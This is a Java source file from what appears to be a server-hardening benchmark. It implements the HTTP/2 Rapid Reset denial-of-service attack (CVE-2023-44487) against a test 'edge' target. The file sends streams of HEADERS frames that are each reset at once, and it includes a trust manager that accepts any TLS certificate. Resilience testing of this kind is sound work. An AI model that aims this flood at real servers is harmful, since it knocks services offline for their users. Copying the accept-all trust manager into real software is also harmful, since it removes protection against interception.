package confab.bench.abuse;

import confab.bench.abuse.Attack.Outcome;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.SecureRandom;
import java.security.cert.X509Certificate;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLEngine;
import javax.net.ssl.SSLParameters;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509ExtendedTrustManager;

/// A hostile client has the edge begin requests of HTTP/2, and takes each back before there is an
/// answer (CVE-2023-44487).
final class Resets {
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int END_OF_ALL = 0x5;

  private Resets() {}

  static Outcome run(Target target) throws Exception {
    Target.Clock clock = target.begin();
    var tally = new Tally();
    int sent = 0;
    while (clock.runs()) {
      try (Socket plain = Tcp.connect(Target.oneAddress(), target.https());
          SSLSocket socket = secure(plain)) {
        socket.getOutputStream().write(opening());
        for (int stream = 1; clock.runs(); stream += 2) {
          socket.getOutputStream().write(resetRequest(stream));
          sent++;
        }
        tally.add("open at the end");
      } catch (IOException e) {
        tally.add(HostileSocket.CUT);
        Thread.sleep(10);
      }
    }
    return new Outcome("%s; %d sent".formatted(tally, sent), tally.count(HostileSocket.CUT) > 0);
  }

  private static SSLSocket secure(Socket plain) throws IOException, GeneralSecurityException {
    SSLContext context = SSLContext.getInstance("TLS");
    context.init(null, new TrustManager[] {new Anybody()}, new SecureRandom());
    var socket = (SSLSocket) context.getSocketFactory().createSocket(plain, "localhost", 1, true);
    SSLParameters parameters = socket.getSSLParameters();
    parameters.setApplicationProtocols(new String[] {"h2"});
    socket.setSSLParameters(parameters);
    socket.startHandshake();
    return socket;
  }

  private static byte[] opening() {
    var bytes = new ByteArrayOutputStream();
    bytes.writeBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
    bytes.writeBytes(frame(SETTINGS, 0, 0, new byte[0]));
    return bytes.toByteArray();
  }

  /// GET https://x/readyz (RFC 7541 section 6), and the reset of it.
  private static byte[] resetRequest(int stream) {
    var fields = new ByteArrayOutputStream();
    fields.writeBytes(new byte[] {(byte) 0x82, (byte) 0x87, 0x04, 7});
    fields.writeBytes("/readyz".getBytes(StandardCharsets.US_ASCII));
    fields.writeBytes(new byte[] {0x01, 1, 'x'});
    var bytes = new ByteArrayOutputStream();
    bytes.writeBytes(frame(HEADERS, END_OF_ALL, stream, fields.toByteArray()));
    bytes.writeBytes(frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8}));
    return bytes.toByteArray();
  }

  /// RFC 9113 section 4.1.
  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    return ByteBuffer.allocate(9 + payload.length)
        .put((byte) 0)
        .putShort((short) payload.length)
        .put((byte) type)
        .put((byte) flags)
        .putInt(stream)
        .put(payload)
        .array();
  }

  /// The edge's certificate is of its own making.
  private static final class Anybody extends X509ExtendedTrustManager {
    @Override
    public void checkServerTrusted(X509Certificate[] chain, String type) {}

    @Override
    public void checkServerTrusted(X509Certificate[] chain, String type, Socket socket) {}

    @Override
    public void checkServerTrusted(X509Certificate[] chain, String type, SSLEngine engine) {}

    @Override
    public void checkClientTrusted(X509Certificate[] chain, String type) {}

    @Override
    public void checkClientTrusted(X509Certificate[] chain, String type, Socket socket) {}

    @Override
    public void checkClientTrusted(X509Certificate[] chain, String type, SSLEngine engine) {}

    @Override
    public X509Certificate[] getAcceptedIssuers() {
      return new X509Certificate[0];
    }
  }
}
